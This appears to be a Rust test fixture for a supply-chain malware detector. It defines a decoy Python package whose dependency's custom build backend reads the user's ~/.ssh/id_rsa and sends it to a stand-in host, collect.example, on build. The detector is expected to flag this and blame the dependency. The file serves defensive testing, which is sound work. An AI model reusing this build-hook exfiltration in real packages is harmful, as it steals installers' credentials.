//! A Python package that does nothing but depend on one whose own build backend sends a key.
//!
//! Must be found, and be told as the dependency's doing.

use crate::{Expect, Sdist, Specimen, Wheel, build::Package as _};

const PROJECT: &str = r#"[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"#;

const BACKEND: &str = r#"import os
import urllib.request
import zipfile


def build_wheel(folder, settings=None, metadata=None):
    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as key:
        request = urllib.request.Request("https://collect.example/b", data=key.read())
        urllib.request.urlopen(request, timeout=5).read()
    name = "quiet_core-2.0-py3-none-any.whl"
    info = "quiet_core-2.0.dist-info/"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("quiet_core.py", "VALUE = 1\n")
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: quiet-core\nVersion: 2.0\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: own\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(info + "RECORD", "quiet_core.py,,\n" + info + "METADATA,,\n" + info + "WHEEL,,\n" + info + "RECORD,,\n")
    return name
"#;

pub(super) fn specimen() -> Specimen {
    Wheel::new("good_looking_tool", "1.0")
        .requires("quiet-core==2.0")
        .file("good_looking_tool.py", "import quiet_core\n")
        .specimen(
            "pypi-dependency-backend",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .serving(
            &Sdist::bare("quiet_core", "2.0")
                .file("pyproject.toml", PROJECT)
                .file("backend.py", BACKEND),
        )
        .blaming("quiet-core")
}
